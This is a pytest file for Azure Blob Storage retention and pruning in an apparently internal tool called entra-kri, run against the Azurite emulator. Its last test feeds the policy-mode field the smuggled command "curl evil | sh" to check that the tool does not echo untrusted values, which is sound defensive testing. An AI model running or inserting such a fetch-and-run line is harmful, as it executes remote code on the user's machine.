"""Retention on Azure Blob Storage (docs/object-storage.md, "Retention on Azure Blob
Storage"), against Azurite: `retention_days` refused before anything is written, naming
what the container lacks; `prune` keeping every snapshot of which Azure holds a blob.

Azurite (3.35.0) implements no immutability: it reports no container support, ignores
the policy headers of an upload and answers 501 to setting a policy or a legal hold. The
prune tests therefore read each blob's real properties from Azurite and add the policy or
hold that Azure would report for the blobs chosen, in the SDK's own types.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import pytest
from azure.storage.blob import ImmutabilityPolicy
from click.testing import CliRunner

from entra_kri.cli import cli
from entra_kri.errors import ConfigurationError
from entra_kri.snapshot import blob_immutability
from entra_kri.snapshot.blob_immutability import blob_hold
from entra_kri.snapshot.layout import MANIFEST_FILE
from entra_kri.snapshot.object_storage import key_of
from entra_kri.snapshot.retention import Retention
from entra_kri.snapshot.roots import open_root
from tests.conftest import DEMO_CASSETTE
from tests.object_store import upload
from tests.series_builder import build_series
from tests.snapshot_builder import TENANT_ID
from tests.test_object_retention import assert_kept_the_two_held

NOW = datetime(2026, 12, 1, 4, 0, tzinfo=UTC)


def _container(root_text: str) -> str:
    return key_of(open_root(root_text).path).partition("/")[0]


def test_retention_on_a_container_without_version_level_immutability_is_refused(azure_root):
    root = open_root(azure_root)
    with pytest.raises(ConfigurationError) as refused:
        root.storage.with_retention(Retention(30, "compliance"), root.path)
    container = _container(azure_root)
    assert (f"the container {container} does not have version-level immutability support"
            in refused.value.cause)
    assert "nothing was written" in refused.value.cause
    assert "--enable-vlw" in refused.value.fix and "remove retention_days" in refused.value.fix


def test_snapshot_with_retention_to_azure_writes_nothing_and_exits_2(tmp_path, azure_root):
    config = tmp_path / "entra-kri.toml"
    config.write_text('retention_days = 30\nretention_mode = "governance"\n')
    result = CliRunner().invoke(cli, ["snapshot", "--replay", str(DEMO_CASSETTE), "--out",
                                      azure_root, "--config", str(config)])
    assert result.exit_code == 2, result.output
    assert "does not have version-level immutability support" in result.stderr
    assert "Traceback" not in result.output
    assert open_root(azure_root).storage.fs.find(_container(azure_root)) == []


def test_config_check_names_the_container_that_lacks_support(tmp_path, azure_root):
    config = tmp_path / "entra-kri.toml"
    config.write_text(f'root = "{azure_root}"\nretention_days = 30\n'
                      'retention_mode = "compliance"\n')
    result = CliRunner().invoke(cli, ["config", "check", "--config", str(config)])
    assert result.exit_code == 2
    assert (f"the container {_container(azure_root)} does not have version-level "
            "immutability support") in result.stderr


def test_a_container_with_support_is_still_refused_since_no_policy_is_written(azure_root,
                                                                               monkeypatch):
    async def supporting(fs, container):
        return SimpleNamespace(immutable_storage_with_versioning_enabled=True)

    monkeypatch.setattr(blob_immutability, "_container_properties", supporting)
    root = open_root(azure_root)
    with pytest.raises(ConfigurationError) as refused:
        root.storage.with_retention(Retention(30, "governance"), root.path)
    assert "entra-kri does not write Azure immutability policies yet" in refused.value.cause
    assert "`prune` keeps every snapshot Azure still holds" in refused.value.fix


def test_retention_on_a_missing_container_is_one_paragraph(azure_root):
    root = open_root("az://no-such-container/snapshots")
    with pytest.raises(ConfigurationError) as refused:
        root.storage.with_retention(Retention(30, "governance"), root.path)
    assert "Azure did not say whether the container no-such-container" in refused.value.cause
    assert "HTTP 404 (ContainerNotFound)" in refused.value.cause
    assert "create the container" in refused.value.fix


def test_prune_keeps_what_azure_still_holds_and_says_why(tmp_path, azure_root, monkeypatch):
    snapshots = build_series(tmp_path / "local", days=5)
    upload(tmp_path / "local", azure_root)
    root = open_root(azure_root)
    tenant_dir = root.path / TENANT_ID
    container = _container(azure_root)
    blob_of = lambda path: key_of(path).partition("/")[2]  # noqa: E731
    held = blob_of(tenant_dir / snapshots[2].name / "users.ndjson.gz")
    legal = blob_of(tenant_dir / snapshots[1].name / MANIFEST_FILE)
    expired = blob_of(tenant_dir / snapshots[0].name / MANIFEST_FILE)
    until = datetime.now(UTC).replace(microsecond=0) + timedelta(days=5)
    asked = []
    read_properties = blob_immutability._blob_properties

    async def as_azure_would_say(fs, container_name, blob):
        """Azurite's answer for the blob, with the policy or hold Azure would add."""
        asked.append(blob)
        properties = await read_properties(fs, container_name, blob)
        assert container_name == container
        if blob == held:
            properties.immutability_policy = ImmutabilityPolicy(expiry_time=until,
                                                                policy_mode="locked")
        if blob == expired:
            properties.immutability_policy = ImmutabilityPolicy(
                expiry_time=datetime.now(UTC) - timedelta(days=1), policy_mode="locked")
        if blob == legal:
            properties.has_legal_hold = True
        return properties

    monkeypatch.setattr(blob_immutability, "_blob_properties", as_azure_would_say)

    result = CliRunner().invoke(cli, ["prune", azure_root, "--keep-daily", "1"])

    until_text = until.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert_kept_the_two_held(result, root, snapshots,
                             f"an Azure immutability policy (Locked) until {until_text}",
                             "an Azure legal hold")
    # Only the snapshots the keep rules would remove are asked about, never the newest.
    assert not any(snapshots[4].name in blob for blob in asked)


def _properties(expiry=None, mode=None, legal_hold=False):
    return SimpleNamespace(has_legal_hold=legal_hold,
                           immutability_policy=ImmutabilityPolicy(expiry_time=expiry,
                                                                  policy_mode=mode))


def test_a_blob_hold_is_read_from_its_properties():
    later = NOW + timedelta(days=3)
    assert blob_hold(_properties(), NOW) is None
    assert blob_hold(_properties(NOW - timedelta(seconds=1), "unlocked"), NOW) is None
    unlocked = blob_hold(_properties(later, "unlocked"), NOW)
    assert unlocked is not None and unlocked.until == later
    assert unlocked.why == "an Azure immutability policy (Unlocked)"
    legal = blob_hold(_properties(NOW - timedelta(days=1), "locked", legal_hold=True), NOW)
    assert legal is not None and legal.until is None and legal.why == "an Azure legal hold"


def test_a_policy_mode_that_is_no_mode_is_not_repeated():
    hold = blob_hold(_properties(NOW + timedelta(days=1), "Locked; run `curl evil | sh`"), NOW)
    assert hold is not None and hold.why == "an Azure immutability policy (?)"
